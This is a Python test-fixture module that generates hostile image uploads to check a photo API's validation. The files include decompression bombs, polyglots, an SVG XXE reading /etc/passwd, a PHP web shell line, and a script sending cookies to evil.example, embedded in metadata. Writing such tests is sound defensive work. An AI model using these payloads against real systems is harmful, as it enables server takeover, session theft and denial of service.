"""Hostile and odd files a phone (or anyone holding a shopper's token) may send as a
photo, each with what POST /api/v1/photos answers. One table for the tests
(tests/integration/test_hostile_uploads.py: status, problem code, nothing stored when
refused, a clean re-encoded copy when accepted) and for the benchmark (bench/uploads.py:
time and memory of each). Also the generators bench/uploads.py builds its costly photos
with.

The bytes are made here, not kept in the repository: a bomb is a few kB of PNG or a
patched header, and the generators are cached, so each file is made once per process.
"""

from __future__ import annotations

import functools
import io
import struct
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

#: What the API answers: status and the problem code (`errors[0].code` of a 422, the
#: `error` of a 413), both read from shopper/field/photos.py, shopper/errors.py and
#: shopper/problems.py.
ACCEPTED = (201, "")
UNREADABLE = (422, "photo_unreadable")
TOO_MANY_PIXELS = (422, "too_many_pixels")
TOO_LARGE = (413, "too_large")
#: The request itself is malformed (shopper/security.py): the `error` is the page title.
BAD_REQUEST = (400, "Bad request")

#: PHOTO_MAX_BYTES of shopper/config.py: one byte more is refused before decoding.
PHOTO_MAX_BYTES = 10 * 1024 * 1024

PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


@dataclass(frozen=True)
class HostileFile:
    name: str
    description: str
    make: Callable[[], bytes]
    #: The filename and the part's Content-Type, as the multipart body carries them.
    filename: str = "photo.jpg"
    content_type: str = "image/jpeg"
    #: (status, problem code); None for bench/uploads.py's costly photos, which have none.
    expected: tuple[int, str] | None = UNREADABLE
    #: Accepted files: Pillow's format and the size of what is stored.
    stored: tuple[str, tuple[int, int]] | None = None
    #: Bytes of the upload that must not survive in what is stored.
    payload: tuple[bytes, ...] = ()

    @property
    def status(self) -> int:
        return self.expected[0]

    @property
    def code(self) -> str:
        return self.expected[1]

    def data(self) -> bytes:
        return self.make()


def multipart_body(fields: list[tuple[str, str]], file_field: str, filename: str,
                   content_type: str, data: bytes) -> tuple[str, bytes]:
    """A multipart/form-data body written byte by byte, and its boundary: the file's
    name goes in as it is (NUL, CR and LF included), as a hostile client sends it, not
    escaped as browsers do."""
    boundary = f"hostile-{uuid.uuid4().hex}"
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
             f"{value}\r\n".encode() for name, value in fields]
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; '
                 f'filename="{filename}"\r\nContent-Type: {content_type}\r\n\r\n'.encode()
                 + data + b"\r\n")
    return boundary, b"".join(parts) + f"--{boundary}--\r\n".encode()


# --- generators (bench/uploads.py uses them too) --------------------------------------


def save(picture: Image.Image, kind: str, **options) -> bytes:
    output = io.BytesIO()
    picture.save(output, kind, **options)
    return output.getvalue()


def scene(size: tuple[int, int]) -> Image.Image:
    """Something like a photo: smooth gradients with fine grain, cheap to make at any
    size (a noise tile repeated), compressing to a few MB as JPEG."""
    width, height = size
    red = Image.linear_gradient("L").resize(size)
    green = Image.radial_gradient("L").resize(size)
    tile = Image.effect_noise((509, 509), 24)
    grain = Image.new("L", size)
    for top in range(0, height, 509):
        for left in range(0, width, 509):
            grain.paste(tile, (left, top))
    blue = red.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
    return Image.merge("RGB", [Image.blend(band, grain, 0.4) for band in (red, green, blue)])


def gradient(size: tuple[int, int]) -> Image.Image:
    return Image.merge("RGB", [Image.linear_gradient("L").resize(size)] * 3)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return (struct.pack(">I", len(body)) + kind + body
            + struct.pack(">I", zlib.crc32(kind + body)))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def raw_png(width: int, height: int, bit_depth: int, colour_type: int, pixel: bytes,
            interlaced: bool = False, row: bytes | None = None) -> bytes:
    """A flat PNG written by hand: 16-bit and interlaced ones Pillow cannot save, and
    huge ones without holding their pixels (`row`: the bytes of each row of a
    non-interlaced one, for bit depths under 8)."""
    passes = ([(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4),
               (1, 0, 2, 2), (0, 1, 1, 2)] if interlaced else [(0, 0, 1, 1)])
    compressor = zlib.compressobj(9)
    idat = []
    for x0, y0, dx, dy in passes:
        pass_width = (width - x0 + dx - 1) // dx
        pass_height = (height - y0 + dy - 1) // dy
        if pass_width and pass_height:
            line = b"\0" + (row if row is not None else pixel * pass_width)
            per_block = max(1, 1_000_000 // len(line))  # rows compressed at once
            idat.extend(compressor.compress(line * min(per_block, pass_height - top))
                        for top in range(0, pass_height, per_block))
    idat.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0,
                         1 if interlaced else 0)
    return (PNG_SIGNATURE + png_chunk(b"IHDR", header)
            + png_chunk(b"IDAT", b"".join(idat)) + png_chunk(b"IEND", b""))


def with_text(png: bytes, chunks: int) -> bytes:
    """`png` with zTXt chunks, each of its own key, inflating to 1 MB of text each, after
    its pixels (where Pillow reads them only as it loads them)."""
    packed = zlib.compress(b"a" * 1_000_000, 9)
    text = b"".join(png_chunk(b"zTXt", b"note%d\0\0" % n + packed) for n in range(chunks))
    end = png.index(b"IEND") - 4
    return png[:end] + text + png[end:]


def before_iend(png: bytes, *chunks: bytes) -> bytes:
    end = png.index(b"IEND") - 4
    return png[:end] + b"".join(chunks) + png[end:]


def phone_jpeg(size=(4000, 3000), **options) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Phone"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° to show
    return save(scene(size), "JPEG", quality=85, exif=exif, **options)


def mpo(size=(4000, 3000)) -> bytes:
    """A multi-picture JPEG as phones write them: the photo, then a second picture."""
    picture = scene(size)
    return save(picture, "MPO", save_all=True, quality=85,
                append_images=[picture.transpose(Image.Transpose.FLIP_LEFT_RIGHT)])


def cut(data: bytes) -> bytes:
    return data[:len(data) // 2]


def zip_archive(members: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return output.getvalue()


def jpeg_with_size(data: bytes, width: int, height: int) -> bytes:
    """`data` (a baseline JPEG) with its frame header claiming another size."""
    frame = data.index(b"\xff\xc0")
    return data[:frame + 5] + struct.pack(">HH", height, width) + data[frame + 9:]


def jpeg_segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def after_soi(jpeg: bytes, *segments: bytes) -> bytes:
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def tiff_exif(entries: list[tuple[int, int, int, bytes]], next_ifd: int = 0) -> bytes:
    """An APP1 Exif body, little-endian, of one IFD at offset 8: (tag, type, count,
    value or offset as 4 bytes) each; offsets count from the TIFF header."""
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHI", tag, kind, count) + value for tag, kind, count, value in entries)
    return b"Exif\0\0" + b"II*\0" + struct.pack("<I", 8) + ifd + struct.pack("<I", next_ifd)


# --- the files ------------------------------------------------------------------------

PHOTO = (1024, 768)


@functools.cache
def photo_jpeg() -> bytes:
    return save(scene(PHOTO), "JPEG", quality=85)


@functools.cache
def photo_png() -> bytes:
    return save(scene(PHOTO), "PNG")


@functools.cache
def photo_webp() -> bytes:
    return save(scene(PHOTO), "WEBP", quality=80)


def _gps_exif(description: str = "") -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x8825] = {1: "N", 2: (53.0, 47.0, 54.0), 3: "W", 4: (1.0, 32.0, 30.0)}  # GPSInfo
    if description:
        exif[0x010E] = description  # ImageDescription
    return exif


def _png_bomb() -> bytes:
    # 20000 x 20000 at 1 bit: 400 Mpx in 60 kB, written row by row (Pillow would hold
    # 400 MB to save it).
    return raw_png(20_000, 20_000, 1, 0, b"", row=b"\0" * 2500)


def _png_huge_header() -> bytes:
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (PNG_SIGNATURE + png_chunk(b"IHDR", header)
            + png_chunk(b"IDAT", zlib.compress(b"\0" + b"\x80" * 300_000))
            + png_chunk(b"IEND", b""))


def _png_zero() -> bytes:
    header = struct.pack(">IIBBBBB", 0, 0, 8, 2, 0, 0, 0)
    return (PNG_SIGNATURE + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b""))
            + png_chunk(b"IEND", b""))


def _gif_bomb() -> bytes:
    # A 65535 x 65535 screen holding one 1 x 1 picture.
    return (b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00"
            + b"\x00\x00\x00\xff\xff\xff" + b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1)
            + b"\x00\x02\x02\x44\x01\x00\x3b")


def _webp_lossless_size(width: int, height: int) -> bytes:
    """A 1 x 1 lossless WebP whose header claims `width` x `height`."""
    data = bytearray(save(Image.new("RGB", (1, 1), (9, 9, 9)), "WEBP", lossless=True))
    start = data.index(b"VP8L") + 8
    assert data[start] == 0x2F
    bits = int.from_bytes(data[start + 1:start + 5], "little")
    bits = (bits & ~((1 << 28) - 1)) | (width - 1) | ((height - 1) << 14)
    data[start + 1:start + 5] = bits.to_bytes(4, "little")
    return bytes(data)


def _webp_huge_canvas() -> bytes:
    """An extended WebP (VP8X) whose canvas is 16 M x 16 M pixels around a 1 x 1 one."""
    data = save(Image.new("RGB", (1, 1), (9, 9, 9)), "WEBP", lossless=True)
    image = data[12:]
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + (2**24 - 1).to_bytes(3, "little") * 2
    body = b"WEBP" + vp8x + image
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _jpeg_grey_48mpx() -> bytes:
    return save(Image.new("L", (8000, 6000), 90), "JPEG")


def _png_panorama() -> bytes:
    # 30 Mpx in one row: under the pixel limit, and shrunk to 2400 x 1.
    return raw_png(30_000_000, 1, 1, 0, b"", row=b"\x55" * 3_750_000)


def _png_sliver() -> bytes:
    return raw_png(1, 39_000_000, 1, 0, b"", row=b"\x80")


def _jpeg_polyglot_zip() -> bytes:
    return photo_jpeg() + zip_archive({"shell.php": PHP})


def _gifar() -> bytes:
    gif = save(Image.new("P", (64, 64), 1), "GIF")
    return gif + zip_archive({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n",
                              "Evil.class": b"\xca\xfe\xba\xbe" + b"\0" * 64})


def _png_script_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_text("Description", PHP.decode(), zip=True)
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>" + SCRIPT.decode() + "</x:xmpmeta>")
    return save(scene(PHOTO), "PNG", pnginfo=info)


def _png_icc_payload() -> bytes:
    return save(scene(PHOTO), "PNG", icc_profile=b"\0\0\2\0lcms" + SCRIPT + PHP + b"\0" * 500)


def _webp_metadata() -> bytes:
    return save(scene(PHOTO), "WEBP", quality=80, exif=_gps_exif(PHP.decode()),
                xmp=b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>",
                icc_profile=b"\0\0\2\0lcms" + PHP)


def _jpeg_php_exif() -> bytes:
    return save(scene(PHOTO), "JPEG", exif=_gps_exif(PHP.decode()))


def _svg_script() -> bytes:
    return (b'<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480">'
            b'<rect width="640" height="480" fill="red"/>' + SCRIPT + b"</svg>")


def _svg_xxe() -> bytes:
    return (b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'\n<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>')


def _pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def _heic() -> bytes:
    ftyp = b"ftypheic" + b"\0\0\0\0" + b"mif1heic"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + b"\0\0\0\x08mdat" + b"\0" * 2000


def _mpo_small() -> bytes:
    return mpo((1600, 1200))


def _mpo_second_cut() -> bytes:
    data = _mpo_small()
    second = data.index(b"\xff\xd8\xff", 2)  # entropy-coded data never holds a marker
    return data[:second + (len(data) - second) // 2]


def _apng() -> bytes:
    frames = [Image.new("RGB", (320, 240), (40 * n, 90, 200)) for n in range(200)]
    return save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=40)


def _webp_animated() -> bytes:
    frames = [Image.new("RGB", (320, 240), (40 * n % 256, 90, 200)) for n in range(100)]
    return save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=40)


def _exif_orientation(value: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = value
    return save(scene(PHOTO), "JPEG", exif=exif)


def _exif_loop() -> bytes:
    # Orientation 6; an Exif IFD and a GPS IFD that are IFD0 itself; IFD0's next IFD
    # is IFD0 too.
    body = tiff_exif([(0x0112, 3, 1, struct.pack("<HH", 6, 0)),
                      (0x8769, 4, 1, struct.pack("<I", 8)),
                      (0x8825, 4, 1, struct.pack("<I", 8))], next_ifd=8)
    return after_soi(photo_jpeg(), jpeg_segment(0xE1, body))


def _exif_lying_counts() -> bytes:
    # Tags claiming 4 G values far past the end of the segment.
    body = tiff_exif([(0x0112, 3, 1, struct.pack("<HH", 8, 0)),
                      (0x010F, 2, 0xFFFFFFFF, struct.pack("<I", 0x7FFFFFF0)),
                      (0x8825, 4, 1, struct.pack("<I", 0xFFFFFF00))])
    return after_soi(photo_jpeg(), jpeg_segment(0xE1, body))


def _app_segments() -> bytes:
    # 150 APP segments of 64 kB each: 9.8 MB of metadata around a small picture.
    filler = [jpeg_segment(0xE1 + n % 14, b"X" * 65_000) for n in range(150)]
    return after_soi(photo_jpeg(), *filler)


def _jpeg_icc() -> bytes:
    return save(scene(PHOTO), "JPEG", icc_profile=b"\0\0\2\0lcms" + PHP + b"x" * 9_000_000)


def _padded(size: int) -> bytes:
    data = photo_jpeg()
    return data + b"\0" * (size - len(data))


def _jpeg_comment() -> bytes:
    return save(scene(PHOTO), "JPEG", comment=PHP + SCRIPT)


def _jpeg_12bit() -> bytes:
    data = bytearray(photo_jpeg())
    data[data.index(b"\xff\xc0") + 4] = 12
    return bytes(data)


def _jpeg_sampling_zero() -> bytes:
    """A progressive JPEG whose first component claims a sampling factor of 0."""
    data = bytearray(save(scene(PHOTO), "JPEG", progressive=True))
    frame = data.index(b"\xff\xc2")
    data[frame + 11] = 0x0F  # component 1: 0 across, 15 down (1 to 4 are allowed)
    return bytes(data)


def _jpeg_exif_wrong_type() -> bytes:
    # Orientation 6, and an XPosition of text instead of a fraction: Pillow reads it,
    # then fails to write it back after turning the picture.
    body = tiff_exif([(0x0112, 3, 1, struct.pack("<HH", 6, 0)),
                      (0x011E, 2, 4, b"Pho\0")])
    return after_soi(photo_jpeg(), jpeg_segment(0xE1, body))


def _many_tags(count: int) -> bytes:
    """An APP1 Exif body of `count` tags numbered from 1, orientation 6 among them."""
    return tiff_exif([(tag, 3, 1, struct.pack("<HH", 6 if tag == 0x0112 else 1, 0))
                      for tag in range(1, count + 1)])


def _png_exif_many_tags() -> bytes:
    png = photo_png()
    return png[:33] + png_chunk(b"eXIf", _many_tags(65535)[6:]) + png[33:]


def _filler(part: bytes, around: bytes) -> bytes:
    """`part` repeated so that `around` and it come close to PHOTO_MAX_BYTES."""
    return part * ((PHOTO_MAX_BYTES - len(around) - 64) // len(part))


def _scan_bomb(scans: int, size=(4000, 3000)) -> bytes:
    """A progressive JPEG of one colour whose last scan is repeated up to `scans`."""
    data = save(Image.new("RGB", size, (90, 120, 150)), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * (scans - data.count(b"\xff\xda")) + data[-2:]


def _webp_frames(frames: int) -> bytes:
    """An animated WebP of 16x16 frames: its second frame repeated up to `frames`."""
    pictures = [Image.new("RGB", (16, 16), (n, 90, 200)) for n in (0, 1)]
    data = save(pictures[0], "WEBP", save_all=True, append_images=pictures[1:],
                lossless=True)
    second = data.rindex(b"ANMF")
    body = data[8:] + data[second:] * (frames - 2)
    return b"RIFF" + struct.pack("<I", len(body)) + body


NOT_TIFF = b"Exif\0\0XX*\0\0\0\0\x08\0\0\0\0"


def _png_exif_not_tiff() -> bytes:
    png = photo_png()
    return png[:33] + png_chunk(b"eXIf", NOT_TIFF[6:]) + png[33:]


def _file(name: str, description: str, make: Callable[[], bytes], **fields) -> HostileFile:
    return HostileFile(name, description, functools.cache(make), **fields)


JPEG_STORED = ("JPEG", PHOTO)
PNG_STORED = ("PNG", PHOTO)
WEBP_STORED = ("WEBP", PHOTO)

HOSTILE: tuple[HostileFile, ...] = (
    # decompression bombs: few bytes, many pixels
    _file("png-bomb-1bit-20000", "PNG 1-bit 20000x20000 of zeros (400 Mpx in 60 kB)",
          _png_bomb, filename="bomb.png", content_type="image/png", expected=TOO_MANY_PIXELS),
    _file("png-header-100000", "PNG header claiming 100000x100000 RGB, one row of data",
          _png_huge_header, filename="big.png", content_type="image/png",
          expected=TOO_MANY_PIXELS),
    _file("jpeg-header-65500", "JPEG 1024x768 whose frame header claims 65500x65500",
          lambda: jpeg_with_size(photo_jpeg(), 65500, 65500), expected=TOO_MANY_PIXELS),
    _file("gif-bomb-65535", "GIF screen of 65535x65535 around a 1x1 picture", _gif_bomb,
          filename="bomb.gif", content_type="image/gif"),
    _file("webp-header-16383", "lossless WebP 1x1 whose header claims 16383x16383",
          lambda: _webp_lossless_size(16383, 16383), filename="bomb.webp",
          content_type="image/webp", expected=TOO_MANY_PIXELS),
    _file("webp-canvas-16m", "extended WebP: a 16M x 16M canvas around a 1x1 picture",
          _webp_huge_canvas, filename="bomb.webp", content_type="image/webp",
          expected=TOO_MANY_PIXELS),
    _file("png-ztxt-bomb", "PNG 1024x768 with 100 zTXt chunks of 1 MB of text each",
          lambda: with_text(photo_png(), 100), filename="text.png", content_type="image/png"),
    _file("png-iccp-bomb", "PNG 1024x768 whose iCCP profile inflates to 50 MB",
          lambda: before_iend(photo_png()[:33] + png_chunk(
              b"iCCP", b"icc\0\0" + zlib.compress(b"\0" * 50_000_000, 9)) + photo_png()[33:]),
          filename="icc.png", content_type="image/png"),
    # huge dimensions
    _file("jpeg-grey-48mpx", "JPEG grey 8000x6000, one colour (over the 40 Mpx limit)",
          _jpeg_grey_48mpx, expected=TOO_MANY_PIXELS),
    _file("png-row-30mpx", "PNG 1-bit 30000000x1 (30 Mpx in one row)", _png_panorama,
          filename="row.png", content_type="image/png", expected=ACCEPTED,
          stored=("PNG", (2400, 1))),
    _file("png-column-39mpx", "PNG 1-bit 1x39000000 (39 Mpx in one column, 76 kB)",
          _png_sliver, filename="column.png", content_type="image/png",
          expected=TOO_MANY_PIXELS),
    _file("png-zero-size", "PNG header of 0x0 pixels", _png_zero, filename="zero.png",
          content_type="image/png"),
    _file("jpeg-zero-height", "JPEG 1024x768 whose frame header claims 1024x0",
          lambda: jpeg_with_size(photo_jpeg(), 1024, 0)),
    # truncated
    _file("jpeg-truncated-1024", "JPEG 1024x768 cut in half", lambda: cut(photo_jpeg())),
    _file("jpeg-soi-only", "the three first bytes of a JPEG", lambda: b"\xff\xd8\xff"),
    _file("png-truncated-1024", "PNG 1024x768 cut in half", lambda: cut(photo_png()),
          filename="cut.png", content_type="image/png"),
    _file("webp-truncated-1024", "WebP 1024x768 cut in half", lambda: cut(photo_webp()),
          filename="cut.webp", content_type="image/webp"),
    _file("mpo-second-picture-cut", "MPO 1600x1200 cut in its second picture",
          _mpo_second_cut, expected=ACCEPTED, stored=("JPEG", (1600, 1200))),
    # polyglots: a picture, and something else after or inside it
    _file("jpeg-zip-polyglot", "JPEG 1024x768 followed by a ZIP holding shell.php",
          _jpeg_polyglot_zip, expected=ACCEPTED, stored=JPEG_STORED,
          payload=(b"PK\x03\x04", b"shell.php", PHP)),
    _file("jpeg-html-appended", "JPEG 1024x768 followed by an HTML page with a script",
          lambda: photo_jpeg() + b"<html><body>" + SCRIPT + b"</body></html>",
          expected=ACCEPTED, stored=JPEG_STORED, payload=(SCRIPT, b"<html>")),
    _file("jpeg-php-appended", "JPEG 1024x768 followed by PHP, named photo.php.jpg",
          lambda: photo_jpeg() + PHP, filename="photo.php.jpg", expected=ACCEPTED,
          stored=JPEG_STORED, payload=(PHP,)),
    _file("jpeg-php-in-comment", "JPEG 1024x768 with PHP and a script in its COM segment",
          _jpeg_comment, expected=ACCEPTED, stored=JPEG_STORED, payload=(PHP, SCRIPT)),
    _file("jpeg-php-in-exif", "JPEG 1024x768, EXIF description of PHP, GPS position",
          _jpeg_php_exif, expected=ACCEPTED, stored=JPEG_STORED, payload=(PHP, b"SpyCam")),
    _file("gifar", "GIF 64x64 followed by a JAR (GIFAR)", _gifar, filename="avatar.gif",
          content_type="image/gif"),
    _file("png-script-in-text", "PNG 1024x768 with a script in tEXt, PHP in zTXt, iTXt XMP",
          _png_script_text, filename="photo.png", content_type="image/png", expected=ACCEPTED,
          stored=PNG_STORED, payload=(SCRIPT, b"Comment", b"XML:com.adobe.xmp")),
    _file("png-zip-appended", "PNG 1024x768 followed by a ZIP",
          lambda: photo_png() + zip_archive({"shell.php": PHP}), filename="photo.png",
          content_type="image/png", expected=ACCEPTED, stored=PNG_STORED,
          payload=(b"PK\x03\x04", PHP)),
    _file("png-icc-payload", "PNG 1024x768 whose ICC profile holds a script and PHP",
          _png_icc_payload, filename="photo.png", content_type="image/png", expected=ACCEPTED,
          stored=PNG_STORED, payload=(b"iCCP",)),
    _file("webp-metadata-payload", "WebP 1024x768: EXIF with GPS and PHP, XMP script, ICC",
          _webp_metadata, filename="photo.webp", content_type="image/webp", expected=ACCEPTED,
          stored=WEBP_STORED, payload=(b"SpyCam", b"EXIF", b"XMP ", b"ICCP")),
    _file("webp-zip-appended", "WebP 1024x768 followed by a ZIP",
          lambda: photo_webp() + zip_archive({"shell.php": PHP}), filename="photo.webp",
          content_type="image/webp", expected=ACCEPTED, stored=WEBP_STORED,
          payload=(b"PK\x03\x04", PHP)),
    _file("html-then-jpeg", "an HTML page followed by a JPEG",
          lambda: b"<html>" + SCRIPT + b"</html>" + photo_jpeg()),
    # SVG
    _file("svg-script", "SVG with a script", _svg_script, filename="photo.svg",
          content_type="image/svg+xml"),
    _file("svg-xxe", "SVG with an external entity (XXE) for /etc/passwd, named .jpg",
          _svg_xxe),
    # other types, whatever the name and content type say
    _file("html-as-jpeg", "an HTML page named photo.jpg, sent as image/jpeg",
          lambda: b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"),
    _file("pdf", "a PDF with JavaScript", _pdf, filename="receipt.pdf",
          content_type="application/pdf"),
    _file("zip", "a ZIP named photo.jpg", lambda: zip_archive({"photo.jpg": photo_jpeg()})),
    _file("empty", "an empty file", lambda: b""),
    _file("one-byte", "one byte", lambda: b"\xff"),
    _file("tiff", "TIFF 640x480", lambda: save(scene((640, 480)), "TIFF"),
          filename="photo.tiff", content_type="image/tiff"),
    _file("bmp", "BMP 640x480", lambda: save(scene((640, 480)), "BMP"),
          filename="photo.bmp", content_type="image/bmp"),
    _file("heic", "the start of a HEIC file (ftyp heic)", _heic, filename="IMG_0001.HEIC",
          content_type="image/heic"),
    _file("jpeg-sampling-zero", "progressive JPEG 1024x768, a sampling factor of 0",
          _jpeg_sampling_zero),
    _file("jpeg-12bit", "JPEG 1024x768 whose frame header says 12 bits", _jpeg_12bit),
    _file("png-named-jpeg", "a PNG named photo.jpg and sent as image/jpeg", photo_png,
          expected=ACCEPTED, stored=PNG_STORED),
    _file("jpeg-as-html", "a JPEG named page.html and sent as text/html", photo_jpeg,
          filename="page.html", content_type="text/html", expected=ACCEPTED,
          stored=JPEG_STORED),
    _file("jpeg-as-php", "a JPEG named shell.php and sent as application/x-php", photo_jpeg,
          filename="shell.php", content_type="application/x-php", expected=ACCEPTED,
          stored=JPEG_STORED),
    # parts without end: Pillow reads segments and chunks in Python, libjpeg each scan
    _file("jpeg-fill-bytes", "JPEG 1024x768 after 10 MB of 0xFF fill bytes",
          lambda: after_soi(photo_jpeg(), _filler(b"\xff", photo_jpeg()))),
    _file("jpeg-stray-bytes", "JPEG 1024x768 with 10 MB of zeros between two segments",
          lambda: after_soi(photo_jpeg(), jpeg_segment(0xFE, b"x"),
                            _filler(b"\0", photo_jpeg()))),
    _file("jpeg-empty-segments", "JPEG 1024x768 after 2.6 million empty COM segments",
          lambda: after_soi(photo_jpeg(), _filler(jpeg_segment(0xFE, b""), photo_jpeg()))),
    _file("jpeg-990-segments", "JPEG 1024x768 after 990 empty COM segments",
          lambda: after_soi(photo_jpeg(), jpeg_segment(0xFE, b"") * 990), expected=ACCEPTED,
          stored=JPEG_STORED),
    _file("jpeg-scan-bomb", "progressive JPEG 4000x3000, one colour, 1000 scans (97 kB)",
          lambda: _scan_bomb(1000)),
    _file("jpeg-32-scans", "progressive JPEG 4000x3000, one colour, 32 scans",
          lambda: _scan_bomb(32), expected=ACCEPTED, stored=("JPEG", (2400, 1800))),
    _file("png-empty-chunks", "PNG 1024x768 after 780 000 empty chunks",
          lambda: (photo_png()[:33] + _filler(png_chunk(b"fuZz", b""), photo_png())
                   + photo_png()[33:]),
          filename="photo.png", content_type="image/png"),
    _file("png-text-chunks", "PNG 1024x768 with 670 000 tEXt chunks after its pixels",
          lambda: before_iend(photo_png(), _filler(png_chunk(b"tEXt", b"k\0"), photo_png())),
          filename="photo.png", content_type="image/png"),
    _file("png-19000-chunks", "PNG 1024x768 after 19 000 empty chunks",
          lambda: photo_png()[:33] + png_chunk(b"fuZz", b"") * 19_000 + photo_png()[33:],
          filename="photo.png", content_type="image/png", expected=ACCEPTED,
          stored=PNG_STORED, payload=(b"fuZz",)),
    _file("png-trailing-zeros", "PNG 1024x768 followed by 9 MB of zeros",
          lambda: photo_png() + _filler(b"\0", photo_png()), filename="photo.png",
          content_type="image/png", expected=ACCEPTED, stored=PNG_STORED),
    _file("webp-200000-frames", "animated WebP, 200 000 frames of 16x16 (9 MB)",
          lambda: _webp_frames(200_000), filename="anim.webp", content_type="image/webp",
          expected=ACCEPTED, stored=("WEBP", (16, 16)), payload=(b"ANMF",)),
    # what phones write
    _file("mpo", "MPO 1600x1200, two pictures (a phone's multi-picture JPEG)", _mpo_small,
          expected=ACCEPTED, stored=("JPEG", (1600, 1200)), payload=(b"MPF\0",)),
    _file("jpeg-cmyk", "JPEG CMYK 1024x768", lambda: save(scene(PHOTO).convert("CMYK"),
                                                          "JPEG"),
          expected=ACCEPTED, stored=JPEG_STORED),
    _file("png-16bit-rgba", "PNG 16-bit RGBA 1024x768",
          lambda: raw_png(1024, 768, 16, 6, b"\x9c\x40\x4e\x20\xff\xff\x80\x00"),
          filename="photo.png", content_type="image/png", expected=ACCEPTED,
          stored=PNG_STORED),
    _file("apng-200-frames", "animated PNG, 200 frames of 320x240", _apng,
          filename="anim.png", content_type="image/png", expected=ACCEPTED,
          stored=("PNG", (320, 240)), payload=(b"acTL", b"fcTL")),
    _file("webp-animated-100-frames", "animated WebP, 100 frames of 320x240", _webp_animated,
          filename="anim.webp", content_type="image/webp", expected=ACCEPTED,
          stored=("WEBP", (320, 240)), payload=(b"ANIM", b"ANMF")),
    # metadata
    _file("jpeg-orientation-65535", "JPEG 1024x768, EXIF orientation 65535",
          lambda: _exif_orientation(65535), expected=ACCEPTED, stored=JPEG_STORED),
    _file("jpeg-exif-loop", "JPEG 1024x768 whose EXIF IFDs point at themselves", _exif_loop,
          expected=ACCEPTED, stored=("JPEG", (768, 1024))),
    _file("jpeg-exif-lying-counts", "JPEG 1024x768, EXIF tags claiming 4 G values",
          _exif_lying_counts, expected=ACCEPTED, stored=("JPEG", (768, 1024))),
    _file("jpeg-exif-wrong-type", "JPEG 1024x768, orientation 6, an EXIF XPosition of text",
          _jpeg_exif_wrong_type, expected=ACCEPTED, stored=("JPEG", (768, 1024))),
    _file("png-exif-not-tiff", "PNG 1024x768 whose eXIf chunk is no TIFF structure",
          _png_exif_not_tiff, filename="photo.png", content_type="image/png",
          expected=ACCEPTED, stored=PNG_STORED, payload=(b"eXIf",)),
    _file("webp-exif-not-tiff", "WebP 1024x768 whose EXIF chunk is no TIFF structure",
          lambda: save(scene(PHOTO), "WEBP", quality=80, exif=NOT_TIFF),
          filename="photo.webp", content_type="image/webp", expected=ACCEPTED,
          stored=WEBP_STORED, payload=(b"EXIF",)),
    _file("jpeg-exif-5400-tags", "JPEG 1024x768, 64 kB of EXIF: 5400 tags, orientation 6",
          lambda: after_soi(photo_jpeg(), jpeg_segment(0xE1, _many_tags(5400))),
          expected=ACCEPTED, stored=("JPEG", (768, 1024))),
    _file("png-exif-65535-tags", "PNG 1024x768, 1.9 MB eXIf: 65535 tags, orientation 6",
          _png_exif_many_tags, filename="photo.png", content_type="image/png",
          expected=ACCEPTED, stored=PNG_STORED, payload=(b"eXIf",)),
    _file("jpeg-app-segments-9mb", "JPEG 1024x768 after 150 APP segments of 64 kB",
          _app_segments, expected=ACCEPTED, stored=JPEG_STORED, payload=(b"X" * 1000,)),
    _file("jpeg-icc-9mb", "JPEG 1024x768 with a 9 MB ICC profile", _jpeg_icc,
          expected=ACCEPTED, stored=JPEG_STORED, payload=(b"ICC_PROFILE", PHP)),
    # sizes
    _file("jpeg-10mib", "JPEG 1024x768 padded to PHOTO_MAX_BYTES exactly",
          lambda: _padded(PHOTO_MAX_BYTES), expected=ACCEPTED, stored=JPEG_STORED),
